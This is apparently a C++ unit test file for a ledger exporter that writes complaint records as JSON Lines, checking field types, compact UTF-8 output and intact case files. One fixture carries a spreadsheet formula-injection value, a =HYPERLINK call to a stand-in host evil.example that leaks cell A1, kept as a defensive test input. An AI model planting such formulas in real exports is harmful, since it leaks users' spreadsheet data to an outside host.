// JSON Lines: every line is one compact JSON object, in both shapes.
#include <sstream>

#include <gtest/gtest.h>

#include "ledger_export.hpp"
#include "test_support.hpp"

using namespace qloop::ledger;
using namespace ledger_test;

namespace {

std::vector<json> lines_of(const std::filesystem::path &file) {
  std::vector<json> out;
  std::istringstream in(read_text(file.string()));
  std::string line;
  while (std::getline(in, line)) out.push_back(json::parse(line)); // throws if a line is not JSON
  return out;
}

json export_jsonl(Settings s, const std::vector<json> &cases) {
  LedgerExport e(s);
  for (const auto &c : cases) e.write_batch(json::array({c}).dump());
  return e.finish();
}

} // namespace

TEST(Jsonl, FlattenedComplaintsAreTyped) {
  const auto out = temp_dir() / "ledger.jsonl";
  Settings s = settings_for(Format::Jsonl, out, Lang::ZhCN); // lang changes no key or code
  const json summary = export_jsonl(s, {sample_case(), hostile_case(), bare_case("QC-3")});
  const auto lines = lines_of(out);
  ASSERT_EQ(lines.size(), 3u);
  const json &first = lines[0];
  EXPECT_EQ(first.size(), columns(Table::Complaints).size());
  EXPECT_EQ(first["number"], "QC-2025-00001");
  EXPECT_EQ(first["received_at"], "2025-11-25T18:01:27Z");
  EXPECT_EQ(first["quantity_affected"], 1);
  EXPECT_TRUE(first["cycle_days"].is_number_float());
  EXPECT_EQ(first["key_complaint"], false);
  EXPECT_EQ(first["severity"], "minor");
  EXPECT_EQ(first["customer"], "北方重工机械");
  const json &hostile = lines[1];
  EXPECT_EQ(hostile["number"], "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  EXPECT_EQ(hostile["subcategory"], "bell\x07 and nul-free\x01 text\r\nnext"); // JSON escapes it all
  EXPECT_EQ(hostile["phenomenon"].get<std::string>().size(), 100u * 1024);
  EXPECT_TRUE(lines[2]["customer"].is_null());
  EXPECT_TRUE(lines[2]["received_at"].is_null());
  EXPECT_EQ(summary["shape"], "complaint");
  EXPECT_EQ(summary["rows"], 3);
}

TEST(Jsonl, CaseFilesAsReceived) {
  const auto out = temp_dir() / "cases.jsonl";
  Settings s = settings_for(Format::Jsonl, out);
  s.jsonl = JsonlShape::CaseFile;
  export_jsonl(s, {sample_case(), hostile_case()});
  const auto lines = lines_of(out);
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(lines[0], sample_case());
  EXPECT_EQ(lines[1], hostile_case());
  const std::string text = read_text(out.string());
  EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 2);
  EXPECT_EQ(text.find("\n "), std::string::npos);          // compact
  EXPECT_NE(text.find("北方重工机械"), std::string::npos); // UTF-8, not \u escapes
}
